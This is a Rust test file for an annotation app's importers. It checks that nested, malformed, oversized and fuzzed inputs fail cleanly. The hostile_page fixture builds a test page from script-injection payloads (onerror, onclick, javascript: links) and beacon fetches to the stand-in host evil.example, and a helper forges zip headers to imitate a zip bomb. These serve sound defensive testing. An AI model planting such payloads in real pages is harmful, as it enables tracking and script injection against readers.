//! Hostile files ("Never lose an annotation"): whatever a file holds, opening it ends in a clear
//! error that names it or in a safe article, never a panic, a hang or a fetch.
//!
//! Covered elsewhere, not repeated here: deep RON nesting, invalid UTF-8, binary and truncated
//! sets at the store level (`store::deep_nesting_is_an_error_not_a_stack_overflow`,
//! `store::binary_and_invalid_utf8_files_are_not_sets`,
//! `store::truncated_golden_file_is_an_error_at_every_cut`); an EPUB whose entries inflate
//! past the budget while claiming to be small (`import::epub::tests::zip_bombs_and_crowds_are_refused`,
//! with a small budget); arbitrary and mutated set text (`store::arbitrary_text_never_panics`,
//! `store::mutated_golden_file_never_panics`). Inputs the fuzz targets (`fuzz/`) found are
//! under `tests/data/fuzz-regressions/` and replayed by [`fuzz_regressions_stay_fixed`].

use std::io::{Cursor, Write as _};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use claimlens::app::{Action, OpenError, read_article_guarded};
use claimlens::import::{self, ImportError, epub::EpubError};
use claimlens::model::structure::SourceFormat;
use egui::Key;

use crate::gui::{harness_with, mark, wait_for_open, wait_for_saves};

const ARTICLE: &str = "Harbour deal\n\nThe ministry said the contract was signed in secret.\n";

/// Opens `file` in the app that has one annotation (saved), and returns the error message it
/// shows; checks the work is still open.
fn open_in_app_expecting_error(file: &Path) -> String {
    let dir = tempfile::tempdir().unwrap();
    let mut h = harness_with(None, Arc::default());
    mark(&mut h, "Huawei", Key::Num1);
    h.state_mut()
        .push(Action::SaveTo(dir.path().join("ok.claimlens.ron")));
    wait_for_saves(&mut h);
    h.state_mut().push(Action::Open(file.to_owned()));
    wait_for_open(&mut h);
    let message = h.state().message.clone().expect("an error is shown");
    assert!(message.is_error, "{}", message.body);
    assert_eq!(
        h.state().doc.set.annotations.len(),
        1,
        "the open work is kept"
    );
    message.body
}

#[test]
fn a_deeply_nested_set_is_refused_by_the_app_naming_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let deep = format!(
        "// Claimlens annotation set.\n(format_version: 3, analyst: {}\"x\"{})\n",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    // Opened directly, and found beside its article.
    let set = dir.path().join("deep.claimlens.ron");
    std::fs::write(&set, &deep).unwrap();
    let article = dir.path().join("story.txt");
    std::fs::write(&article, ARTICLE).unwrap();
    std::fs::write(dir.path().join("story.txt.claimlens.ron"), &deep).unwrap();
    for (file, name) in [
        (set, "deep.claimlens.ron"),
        (article, "story.txt.claimlens.ron"),
    ] {
        let body = open_in_app_expecting_error(&file);
        assert!(body.contains(name), "{body}");
        assert!(body.contains("nested more than"), "{body}");
    }
}

#[test]
fn a_set_with_invalid_utf8_is_refused_by_the_app_naming_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let mut bytes = b"// Claimlens annotation set.\n(format_version: 3, analyst: \"".to_vec();
    bytes.extend_from_slice(b"\xff\xfe\xc3\x28");
    bytes.extend_from_slice(b"\")\n");
    let set = dir.path().join("latin.claimlens.ron");
    std::fs::write(&set, &bytes).unwrap();
    let body = open_in_app_expecting_error(&set);
    assert!(body.contains("latin.claimlens.ron"), "{body}");
    assert!(body.contains("not UTF-8"), "{body}");
}

#[test]
fn deeply_nested_articles_open_or_fail_cleanly() {
    let dir = tempfile::tempdir().unwrap();
    let n = 100_000;
    let cases = [
        (
            "divs.html",
            format!(
                "<html><body>{}deep{}",
                "<div>".repeat(n),
                "</div>".repeat(n)
            ),
        ),
        (
            "inline.html",
            format!("<html><body><p>{}deep", "<b><i>".repeat(n)),
        ),
        ("quotes.md", format!("{}deep\n", "> ".repeat(n))),
        (
            "lists.md",
            (0..2_000)
                .map(|i| format!("{}- deep {i}\n", "  ".repeat(i)))
                .collect(),
        ),
        (
            "links.md",
            format!("{}deep{}", "[".repeat(n), "](x)".repeat(n)),
        ),
        (
            "emphasis.md",
            format!("{}deep{}", "*_".repeat(n), "_*".repeat(n)),
        ),
    ];
    for (name, text) in cases {
        let path = dir.path().join(name);
        std::fs::write(&path, text).unwrap();
        match read_article_guarded(&path, Duration::from_secs(60)) {
            Ok(article) => assert!(article.text.contains("deep"), "{name}"),
            Err(err @ OpenError::Import { .. }) => {
                assert!(err.to_string().contains(name), "{err}");
            }
            Err(err) => panic!("{name}: {err}"),
        }
    }
}

#[test]
fn a_huge_single_line_imports_whole() {
    // 50 MB without a line break: within the size limit, so it opens, in one paragraph.
    let sentence = "the ministry said the contract was signed in secret ";
    let text = sentence.repeat((50 << 20) / sentence.len() + 1);
    let article = import::import(text.as_bytes(), "one-line.txt").expect("opens");
    assert_eq!(article.meta.format, SourceFormat::Text);
    assert_eq!(article.text.trim_end(), text.trim_end());
    // And one byte over the limit is refused before anything is decoded.
    let too_big = vec![b'a'; import::MAX_IMPORT_BYTES as usize + 1];
    assert!(matches!(
        import::import(&too_big, "huge.txt"),
        Err(ImportError::TooLarge { .. })
    ));
}

#[test]
fn invalid_utf8_markdown_opens_as_markdown_in_a_legacy_encoding() {
    // "café" in windows-1252 and a stray continuation byte: not UTF-8, decoded, not refused.
    let bytes = b"# Caf\xe9 report\n\nThe *minister* said \x80 it was \xe9t\xe9 signed.\n";
    let article = import::import(bytes, "notes.md").expect("opens");
    assert_eq!(article.meta.format, SourceFormat::Markdown);
    assert!(article.meta.encoding.is_some());
    assert!(article.text.contains("Café report"), "{}", article.text);
    assert!(!article.text.contains('*'));
    // Bytes that decode in no single-byte encoding cleanly still give an article.
    let noise: Vec<u8> = (0..4096u32)
        .map(|i| (i * 7919 % 256) as u8 | 0x80)
        .collect();
    let mut md = b"# Noise\n\n".to_vec();
    md.extend_from_slice(&noise);
    assert!(import::import(&md, "noise.md").is_ok());
}

// ---------------------------------------------------------------------------------------------
// EPUB

const CONTAINER: &str = r#"<?xml version="1.0"?>
<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">
  <rootfiles><rootfile full-path="OEBPS/content.opf" media-type="application/oebps-package+xml"/></rootfiles>
</container>"#;

const OPF: &str = r#"<?xml version="1.0"?>
<package xmlns="http://www.idpf.org/2007/opf" version="2.0">
  <metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Hostile</dc:title></metadata>
  <manifest><item id="one" href="one.xhtml" media-type="application/xhtml+xml"/></manifest>
  <spine><itemref idref="one"/></spine>
</package>"#;

const CHAPTER: &str = r#"<?xml version="1.0" encoding="utf-8"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>The chapter.</p></body></html>"#;

/// An EPUB: `mimetype` stored, then the container, package and chapter, then `extra` entries
/// (stored, empty) — all files the book does not use.
fn epub(chapter: &[u8], extra: usize) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let stored =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    let deflated = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    zip.start_file("mimetype", stored).unwrap();
    zip.write_all(b"application/epub+zip").unwrap();
    for (name, content) in [
        ("META-INF/container.xml", CONTAINER.as_bytes()),
        ("OEBPS/content.opf", OPF.as_bytes()),
        ("OEBPS/one.xhtml", chapter),
    ] {
        zip.start_file(name, deflated).unwrap();
        zip.write_all(content).unwrap();
    }
    for i in 0..extra {
        zip.start_file(format!("OEBPS/junk/{i}.txt"), stored)
            .unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// Rewrites the uncompressed size that the local header and the central directory record of
/// entry `name` claim (a bomb that announces itself).
fn claim_size(zip: &mut [u8], name: &str, size: u32) {
    let mut patched = 0;
    for (signature, offset) in [(b"PK\x03\x04", 22), (b"PK\x01\x02", 24)] {
        let name_at = if signature == b"PK\x03\x04" { 30 } else { 46 };
        let mut i = 0;
        while i + name_at + name.len() <= zip.len() {
            if &zip[i..i + 4] == signature
                && &zip[i + name_at..i + name_at + name.len()] == name.as_bytes()
            {
                zip[i + offset..i + offset + 4].copy_from_slice(&size.to_le_bytes());
                patched += 1;
            }
            i += 1;
        }
    }
    assert_eq!(patched, 2, "local header and central record of {name}");
}

#[test]
fn an_epub_claiming_to_unpack_beyond_the_limit_is_refused() {
    let mut bytes = epub(CHAPTER.as_bytes(), 0);
    claim_size(&mut bytes, "OEBPS/one.xhtml", 300 << 20);
    let err = import::import(&bytes, "bomb.epub").expect_err("refused");
    assert!(
        matches!(err, ImportError::Epub(EpubError::TooLarge)),
        "{err:?}"
    );
    assert!(err.to_string().contains("unpacks to more than"), "{err}");
}

#[test]
fn a_highly_compressible_epub_chapter_is_read_within_the_budget() {
    // 8 MiB of spaces deflate to about 8 KiB: a 1000:1 ratio, but within the budget, so the
    // book opens (the budget, not the ratio, is the guard; beyond it see
    // `import::epub::tests::zip_bombs_and_crowds_are_refused`).
    let mut chapter = CHAPTER.as_bytes().to_vec();
    let at = chapter.len() - "</p></body></html>".len();
    chapter.splice(at..at, std::iter::repeat_n(b' ', 8 << 20));
    let bytes = epub(&chapter, 0);
    assert!(bytes.len() < 64 << 10, "{}", bytes.len());
    let article = import::import(&bytes, "airy.epub").expect("opens");
    assert!(article.text.contains("The chapter."));
}

#[test]
fn epubs_with_thousands_of_entries() {
    // Up to the limit the book opens, the unused files ignored...
    let bytes = epub(CHAPTER.as_bytes(), 9_000);
    let article = import::import(&bytes, "crowded.epub").expect("opens");
    assert!(article.text.contains("The chapter."));
    // ...past it the book is refused with the count.
    let bytes = epub(CHAPTER.as_bytes(), import::epub::MAX_ENTRIES);
    let err = import::import(&bytes, "crowd.epub").expect_err("refused");
    assert!(
        matches!(err, ImportError::Epub(EpubError::TooManyFiles(10_004))),
        "{err:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// HTML: nothing active survives, nothing is fetched

/// A page with every way HTML has to run code or fetch something. Each active part carries a
/// marker word that must never reach the article; remote URLs carry `evil.example`.
fn hostile_page(article_text: bool) -> String {
    let body = if article_text {
        "<article><h1>Harbour deal</h1><p class=byline>By Jane Doe</p>\
         <p>The ministry said the contract was signed in secret last spring, according to two \
         officials who saw the documents and spoke on condition of anonymity.</p>\
         <p onclick=\"alert('ONCLICKMARK')\" onmouseover=\"fetch('http://evil.example/x')\">A \
         spokesperson called the report <em>completely false</em> and malicious, and said the \
         company would consider legal steps <a href=\"javascript:alert('HREFMARK')\">against</a> \
         the newspaper.</p>\
         <script>document.write('SCRIPTMARK')</script>\
         <img src=\"http://evil.example/pixel.gif\" onerror=\"alert('ONERRORMARK')\" alt=\"\">\
         <p>The documents, seen by the paper, run to 40 pages and were dated March.</p>\
         </article>"
    } else {
        "<p onclick=\"alert('ONCLICKMARK')\">Short page.</p>\
         <img src=http://evil.example/pixel.gif onerror=\"alert('ONERRORMARK')\">"
    };
    format!(
        "<!DOCTYPE html><html lang=en><head><title>Harbour deal</title>\
         <meta http-equiv=refresh content=\"0; url=http://evil.example/redirect\">\
         <link rel=stylesheet href=\"http://evil.example/style.css\">\
         <link rel=preload href=\"http://evil.example/font.woff2\" as=font>\
         <style>@import url(http://evil.example/import.css); body {{ background: \
         url(http://evil.example/bg.png) }} .STYLEMARK {{}}</style>\
         <script src=\"http://evil.example/tracker.js\"></script>\
         <script>fetch('http://evil.example/beacon?SCRIPTMARK')</script>\
         <script type=module>import 'http://evil.example/mod.js'; SCRIPTMARK</script>\
         <base href=\"http://evil.example/\">\
         </head><body onload=\"alert('ONLOADMARK')\">\
         <noscript><img src=\"http://evil.example/noscript.gif\">NOSCRIPTMARK</noscript>\
         <iframe src=\"http://evil.example/frame\">IFRAMEMARK</iframe>\
         <object data=\"http://evil.example/movie.swf\"><param name=movie \
         value=\"http://evil.example/movie.swf\">OBJECTMARK</object>\
         <embed src=\"http://evil.example/embed.swf\">\
         <svg><script>SCRIPTMARK</script><image href=\"http://evil.example/svg.png\"/></svg>\
         <template><p>TEMPLATEMARK</p></template>\
         <video src=\"http://evil.example/v.mp4\" poster=\"http://evil.example/p.jpg\"></video>\
         <form action=\"http://evil.example/post\"><input type=image src=\"http://evil.example/i.png\"></form>\
         {body}\
         <script>new Image().src='http://evil.example/late?SCRIPTMARK'</script>\
         </body></html>"
    )
}

#[test]
fn html_keeps_no_script_and_no_remote_address() {
    for (article_text, name) in [(true, "page.html"), (false, "short.htm")] {
        let page = hostile_page(article_text);
        let article = import::import(page.as_bytes(), name).expect("opens");
        assert_eq!(article.meta.format, SourceFormat::Html);
        let meta = &article.meta;
        let mut everything = vec![article.text.as_str(), article.title.as_str()];
        everything.extend(
            [
                &meta.title,
                &meta.byline,
                &meta.site,
                &meta.published,
                &meta.excerpt,
                &meta.lang,
                &meta.url,
            ]
            .into_iter()
            .flatten()
            .map(String::as_str),
        );
        for text in everything {
            for marker in [
                "SCRIPTMARK",
                "ONCLICKMARK",
                "ONERRORMARK",
                "ONLOADMARK",
                "HREFMARK",
                "STYLEMARK",
                "IFRAMEMARK",
                "OBJECTMARK",
                "TEMPLATEMARK",
                "alert(",
                "fetch(",
                "evil.example",
                "javascript:",
            ] {
                assert!(!text.contains(marker), "{name}: {marker} in {text:?}");
            }
        }
        if article_text {
            assert!(
                article
                    .text
                    .contains("called the report completely false and malicious"),
                "{}",
                article.text
            );
        } else {
            assert!(article.text.contains("Short page."), "{}", article.text);
        }
    }
}

#[test]
fn remote_addresses_written_as_text_stay_plain_text() {
    let page = "<html><body><article><h1>Links</h1><p>The leak was posted at \
                http://evil.example/leak and <a href=\"http://evil.example/a\">mirrored</a> \
                the same day, officials said on Tuesday in a statement to reporters.</p>\
                </article></body></html>";
    let article = import::import(page.as_bytes(), "links.html").expect("opens");
    // The address typed in the text is text; the link's target is not.
    assert!(
        article.text.contains("http://evil.example/leak"),
        "{}",
        article.text
    );
    assert!(!article.text.contains("evil.example/a"), "{}", article.text);
}

// ---------------------------------------------------------------------------------------------
// Inputs the fuzz targets found

fn regressions_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/fuzz-regressions")
}

/// Every file in `tests/data/fuzz-regressions/`, named `TARGET-…` after the fuzz target that
/// found it, is fed to what that target calls, on a thread with a deadline: it must return
/// (an error or a result), not panic and not hang.
#[test]
fn fuzz_regressions_stay_fixed() {
    let entries = std::fs::read_dir(regressions_dir()).expect("tests/data/fuzz-regressions");
    let mut targets = std::collections::BTreeSet::new();
    for entry in entries {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if name.ends_with(".md") && name.starts_with("README") {
            continue;
        }
        let bytes = std::fs::read(&path).unwrap();
        let target = name.split('-').next().unwrap_or_default().to_owned();
        targets.insert(target.clone());
        let (tx, rx) = std::sync::mpsc::channel();
        let handle = std::thread::Builder::new()
            .stack_size(256 << 20)
            .spawn(move || {
                replay(&target, &bytes);
                let _ = tx.send(());
            })
            .unwrap();
        match rx.recv_timeout(Duration::from_secs(30)) {
            Ok(()) => {}
            Err(std::sync::mpsc::RecvTimeoutError::Disconnected) => {
                panic!("{name} panicked: {:?}", handle.join().err())
            }
            Err(std::sync::mpsc::RecvTimeoutError::Timeout) => {
                panic!("{name} did not finish within 30 s")
            }
        }
    }
    assert_eq!(
        targets.len(),
        10,
        "inputs for every fuzz target are replayed: {targets:?}"
    );
}

/// What fuzz target `target` does with `bytes` (see `fuzz/fuzz_targets/`).
fn replay(target: &str, bytes: &[u8]) {
    use claimlens::interchange::{brat, hypothesis, w3c};
    use claimlens::model::{Article, LabelSet};
    let text = std::str::from_utf8(bytes).ok();
    let set_path = Path::new("fuzz.claimlens.ron");
    match target {
        "set_loader" => {
            let _ = text.map(|t| claimlens::store::load_set_str(t, set_path));
        }
        "preset_loader" => {
            let _ = text.map(|t| claimlens::store::preset_from_str(t, set_path));
        }
        "import_text" => drop(import::import(bytes, "fuzz.txt")),
        "import_markdown" => drop(import::import(bytes, "fuzz.md")),
        "import_html" => drop(import::import(bytes, "fuzz.html")),
        "import_pdf" => drop(import::import(bytes, "fuzz.pdf")),
        "import_epub" => drop(import::import(bytes, "fuzz.epub")),
        "interchange_w3c" | "interchange_hypothesis" | "interchange_brat" => {
            let Some(text) = text else { return };
            let labels = LabelSet::default();
            // The articles the fuzz targets use.
            let article = |rel: &str| {
                let path = Path::new(env!("CARGO_MANIFEST_DIR")).join(rel);
                Article::from_plain_text(&std::fs::read_to_string(path).unwrap(), "fuzz.txt")
            };
            match target {
                "interchange_w3c" => drop(w3c::from_w3c(
                    text,
                    &article("tests/data/golden-article.txt"),
                    &labels,
                )),
                "interchange_hypothesis" => drop(hypothesis::from_hypothesis(
                    text,
                    &article("tests/data/interchange/hypothesis-page.txt"),
                    &labels,
                )),
                _ => {
                    let (txt, ann) = text.split_once("\u{1}ANN\u{1}\n").unwrap_or(("", text));
                    drop(brat::from_brat(txt, ann, &labels));
                }
            }
        }
        other => panic!("no fuzz target {other}"),
    }
}
